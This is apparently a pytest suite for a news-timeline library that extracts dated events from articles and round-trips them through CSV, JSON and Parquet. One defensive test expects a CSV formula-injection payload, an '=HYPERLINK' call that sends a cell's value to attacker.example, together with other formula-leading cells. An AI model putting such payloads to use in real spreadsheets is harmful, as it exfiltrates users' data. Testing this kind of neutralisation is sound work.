"""The public API (`timeline/__init__.py`) as a pandas user meets it: extract from what they have,
read a written frame back from any writer, and hand it to every view.

Pinned dateline: Monday 2020-01-06 (the Reuters seed article's).
"""

from __future__ import annotations

import io
import json
from pathlib import Path

import pandas as pd
import plotly.graph_objects as go
import pytest

import timeline
from timeline.document import Document
from timeline.errors import InputError
from timeline.readers import sample_paths
from timeline.schema import (
    ARTICLES,
    COLUMNS,
    DUPLICATES,
    ERRORS,
    WARNINGS,
    csv_cells,
    sources_of,
    write_csv,
    write_frame,
)

INPUTS = Path(__file__).parent / "data" / "inputs"
BAD = INPUTS / "bad"
SEED = INPUTS.parent / "events" / "reuters-2020-01-06-iraq-letter.txt"
WIRE_COLUMNS = {"text_column": "story_text", "date_column": "filed_on", "title_column": "headline"}


@pytest.fixture(scope="module")
def samples() -> pd.DataFrame:
    return timeline.extract(quiet=True)


# --- extract() takes what a pandas user has --------------------------------------------------
def test_extract_takes_a_dataframe_of_articles_read_by_pandas():
    articles = pd.read_csv(INPUTS / "wire-stories.csv")
    frame = timeline.extract(articles, quiet=True, **WIRE_COLUMNS)
    assert set(frame["doc_id"]) == {"row-0", "row-1"}
    assert frame.attrs[ARTICLES]["row-0"]["title"] == "Port strike ends after pay deal"
    port = frame[(frame["doc_id"] == "row-0") & (frame["dated_by"] == "expression")]
    assert port["start"].dt.strftime("%Y-%m-%d").tolist() == ["2020-01-07"]  # "on Tuesday"
    assert [str(e) for e in frame.attrs[ERRORS]] == [
        "DataFrame row 2: no reference date: no date in DataFrame column 'filed_on', and none "
        "in its dateline, file name or text (give --dateline YYYY-MM-DD)",
        "DataFrame row 3: no text in column 'story_text'",
    ]


def test_extract_guesses_the_columns_of_a_dataframe_as_it_does_for_a_csv():
    articles = pd.DataFrame(
        {
            "headline": ["Bridge opens"],
            "body": ["The bridge opened to traffic on Monday, the city said."],
            "published": [pd.Timestamp("2020-01-07 09:30")],
            "link": ["https://news.example.org/bridge"],
        }
    )
    frame = timeline.extract(articles, quiet=True)
    [article] = frame.attrs[ARTICLES].values()
    assert (article["title"], article["url"], article["dateline"]) == (
        "Bridge opens",
        "https://news.example.org/bridge",
        "2020-01-07",
    )
    own = frame[frame["dated_by"] == "expression"]
    assert own["start"].dt.strftime("%Y-%m-%d").tolist() == ["2020-01-06"]  # "on Monday"


def test_extract_takes_a_list_of_texts_with_a_dateline():
    texts = [
        "Soleimani was killed in a U.S. strike on Friday.",
        "Iraq's parliament voted on Sunday to expel U.S. troops.",
    ]
    frame = timeline.extract(texts, dateline="2020-01-06", quiet=True)
    assert frame["doc_id"].tolist() == ["text-1", "text-2"]
    assert frame["start"].dt.strftime("%Y-%m-%d").tolist() == ["2020-01-03", "2020-01-05"]
    assert set(frame["dateline_source"]) == {"explicit"}


def test_extract_takes_documents_paths_dataframes_and_texts_together_one_dateline_each():
    note = Document("note", "The council met on Monday.", title="Council")
    articles = pd.DataFrame({"text": ["The port reopened on Tuesday."]})
    frame = timeline.extract(
        [note, SEED, articles, "Talks ended on Wednesday in Geneva, officials said."],
        dateline=["2020-01-06", None, "2020-01-06", "2020-01-06"],
        quiet=True,
    )
    assert {"note", "reuters-2020-01-06-iraq-letter", "row-0", "text-4"} == set(
        frame.attrs[ARTICLES]
    )
    days = frame.groupby("doc_id")["start"].min().dt.strftime("%Y-%m-%d")
    # the Tuesday and the Wednesday before Monday 2020-01-06 (past tense)
    assert (days["note"], days["row-0"], days["text-4"]) == (
        "2020-01-06",
        "2019-12-31",
        "2020-01-01",
    )


def test_a_list_of_datelines_of_the_wrong_length_names_the_count():
    with pytest.raises(ValueError, match="2 datelines for 1 input"):
        timeline.extract(["Talks ended on Wednesday, officials said."], dateline=["2020-01-06"] * 2)


def test_a_string_that_names_no_file_and_reads_as_no_text_is_a_path_error():
    frame = timeline.extract(["artcles/", "story.txt"], quiet=True)
    assert frame.empty
    assert frame.attrs[ERRORS] == [
        InputError("artcles/", "no such file or folder"),
        InputError("story.txt", "no such file or folder"),
    ]


# --- read_events: every writer, read back ----------------------------------------------------
@pytest.mark.parametrize("suffix", [".csv", ".json", ".parquet"])
def test_read_events_gives_back_the_frame_each_writer_wrote(samples, tmp_path, suffix):
    path = tmp_path / f"events{suffix}"
    write_frame(samples, path)
    back = timeline.read_events(path)
    pd.testing.assert_frame_equal(back, samples)
    assert {name: str(dtype) for name, dtype in back.dtypes.items()} == COLUMNS
    titles = {doc_id: a["title"] for doc_id, a in back.attrs[ARTICLES].items()}
    assert (
        titles
        == {
            doc_id: a["title"]
            for doc_id, a in samples.attrs[ARTICLES].items()
            if doc_id in set(samples["doc_id"])
        }
        or suffix == ".parquet"
    )


def test_a_parquet_output_is_a_folder_that_keeps_articles_errors_and_warnings(tmp_path):
    frame = timeline.extract([INPUTS, BAD / "empty.txt"], quiet=True, **WIRE_COLUMNS)
    path = tmp_path / "events.parquet"
    write_frame(frame, path)
    assert sorted(p.name for p in path.iterdir()) == [
        "_articles",
        "_run.json",
        "part-00000.parquet",
    ]
    back = timeline.read_events(path)
    pd.testing.assert_frame_equal(back, frame)
    assert back.attrs[ARTICLES] == frame.attrs[ARTICLES]
    assert back.attrs[ERRORS] == frame.attrs[ERRORS] and back.attrs[ERRORS]
    assert back.attrs[WARNINGS] == frame.attrs[WARNINGS] and back.attrs[WARNINGS]
    summary = json.loads((path / "_run.json").read_text())
    assert (summary["documents"], summary["rows"]) == (len(frame.attrs[ARTICLES]), len(frame))
    pd.testing.assert_frame_equal(
        pd.read_parquet(path), pd.read_parquet(path / "part-00000.parquet")
    )


@pytest.mark.filterwarnings("ignore:'epoch' date format is deprecated")  # pandas' default still
def test_read_events_reads_what_pandas_and_older_versions_wrote(samples, tmp_path):
    pandas_json = tmp_path / "pandas.json"
    samples.to_json(pandas_json, date_format="epoch")  # pandas: columns orient, epoch ms
    older_csv = tmp_path / "older.csv"
    samples.to_csv(older_csv, index=False, date_format="%Y-%m-%d %H:%M:%S")  # lists as Python
    joined_csv = tmp_path / "joined.csv"  # what versions before the list column wrote
    joined = samples.assign(sources=samples["sources"].map("; ".join))
    joined.to_csv(joined_csv, index=False, date_format="%Y-%m-%d %H:%M:%S")
    single_file = tmp_path / "single.parquet"
    samples.to_parquet(single_file)  # attrs in the Parquet metadata
    for path in (pandas_json, older_csv, joined_csv, single_file):
        back = timeline.read_events(path)
        pd.testing.assert_frame_equal(back, samples, obj=path.name)
    assert timeline.read_events(single_file).attrs[ARTICLES] == samples.attrs[ARTICLES]


def test_read_events_names_the_file_that_is_no_events_table(tmp_path):
    with pytest.raises(ValueError, match=r"wire-stories.csv: not an events table \(no column"):
        timeline.read_events(INPUTS / "wire-stories.csv")
    with pytest.raises(ValueError, match=r"missing.parquet: no such file or folder"):
        timeline.read_events(tmp_path / "missing.parquet")
    (tmp_path / "broken.json").write_text("{not json")
    with pytest.raises(ValueError, match=r"broken.json: "):
        timeline.read_events(tmp_path / "broken.json")


# --- every view takes a frame read back from any writer --------------------------------------
def test_every_view_takes_a_frame_pandas_read_back_from_a_written_csv(samples, tmp_path):
    path = tmp_path / "events.csv"
    write_frame(samples, path)
    raw = pd.read_csv(path)  # strings for dates, JSON lists for sources
    page = timeline.to_html(raw)
    assert page.startswith("<!DOCTYPE html>") and "Soleimani" in page
    fig = timeline.figure(raw)
    assert isinstance(fig, go.Figure) and len(fig.data) > 1
    assert timeline.app(raw).layout is not None
    back = timeline.read_events(path)
    assert timeline.to_html(back).count("Soleimani") == page.count("Soleimani")


def test_views_take_frames_from_json_and_parquet_files_read_by_pandas(samples, tmp_path):
    write_frame(samples, tmp_path / "events.json")
    write_frame(samples, tmp_path / "events.parquet")
    for raw in (
        pd.read_json(tmp_path / "events.json"),
        pd.read_parquet(tmp_path / "events.parquet"),
    ):
        assert "Soleimani" in timeline.to_html(raw)


# --- the CSV writer --------------------------------------------------------------------------
def test_a_doc_id_holding_the_old_separator_survives_a_csv_as_one_source():
    frame = timeline.extract(SEED, quiet=True).head(2)
    frame["sources"] = [["x; y", "reuters-2020-01-06-iraq-letter"]] * 2
    cell = csv_cells(frame)["sources"].iloc[0]
    assert cell == '["x; y", "reuters-2020-01-06-iraq-letter"]'
    back = pd.read_csv(io.StringIO(write_csv(frame, None)))
    assert sources_of(back["sources"].iloc[0]) == ["x; y", "reuters-2020-01-06-iraq-letter"]


def test_csv_cells_a_spreadsheet_would_run_are_neutralized_and_read_back_exactly(tmp_path):
    frame = timeline.extract(BAD / "formula-cells.csv", quiet=True, title_column="headline")
    path = tmp_path / "events.csv"
    write_frame(frame, path)
    cells = pd.read_csv(path, dtype=str, keep_default_na=False)
    titles = set(cells["title"])
    assert titles == {
        '\'=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
        "'+SUM(1;2) markets rally",
        "'@cmd quarterly report",
        "''=already quoted",
    }
    text_columns = [name for name, dtype in COLUMNS.items() if dtype == "string"]
    for name in text_columns:
        assert not cells[name].str.match(r"[=+\-@\t\r]").any(), name
    pd.testing.assert_frame_equal(timeline.read_events(path), frame)
    json_path = tmp_path / "events.json"
    write_frame(frame, json_path)  # JSON and Parquet keep every value exact
    assert {r["title"] for r in json.loads(json_path.read_text())} == set(frame["title"])


def test_the_dateline_is_a_day_and_start_end_a_time_in_every_csv_row(samples):
    text = write_csv(samples.head(3), None)
    first = pd.read_csv(io.StringIO(text), dtype=str).iloc[0]
    assert len(first["dateline"]) == 10 and len(first["start"]) == len(first["end"]) == 19
    head, tail = samples.iloc[:5], samples.iloc[5:]
    assert write_csv(head, None) + write_csv(tail, None, header=False) == write_csv(samples, None)


# --- figure and articles ---------------------------------------------------------------------
def test_figure_has_the_dashboard_defaults_lanes_colour_and_hover_columns(samples):
    default = timeline.figure(samples)
    assert default.layout.yaxis.ticktext  # one lane per document, as the dashboard
    assert len(default.layout.yaxis.ticktext) == samples["doc_id"].nunique()
    by_type = timeline.figure(samples, lanes="timex_type")
    assert set(by_type.layout.yaxis.ticktext) <= {"DATE", "TIME", "DURATION", "SET"}
    coloured = timeline.figure(samples, color="dateline_source", hover_data=["anchor"])
    legend = [t.name for t in coloured.data if t.showlegend]
    assert legend == ["metadata"]
    points = [t for t in coloured.data[1:] if t.customdata is not None and len(t.customdata)]
    assert all("<br>anchor: " in text for t in points for text in t.hovertext)
    with pytest.raises(ValueError, match="no column 'colour'"):
        timeline.figure(samples, color="colour")


def test_articles_are_reachable_after_filtering_and_after_a_merge_that_loses_attrs(samples):
    table = timeline.articles(samples[samples["start"].dt.year == 2020])
    assert len(table) == len(sample_paths()) == 31
    assert (
        table.loc[table["doc_id"] == "reuters-2020-01-06-iraq-letter", "text"].str.len().gt(0).all()
    )
    merged = samples.merge(pd.DataFrame({"doc_id": ["x"], "note": ["n"]}), on="doc_id", how="left")
    assert merged.attrs == {}
    from_rows = timeline.articles(merged)
    assert set(from_rows["doc_id"]) == set(samples["doc_id"])
    assert list(from_rows.columns) == list(table.columns)


def test_extract_says_which_inputs_were_read_once_though_given_twice():
    frame = timeline.extract([SEED, SEED], quiet=True)
    assert frame["n_sources"].eq(1).all()
    assert [(d.path, d.message) for d in frame.attrs[DUPLICATES]] == [
        (str(SEED), "given more than once: read once")
    ]
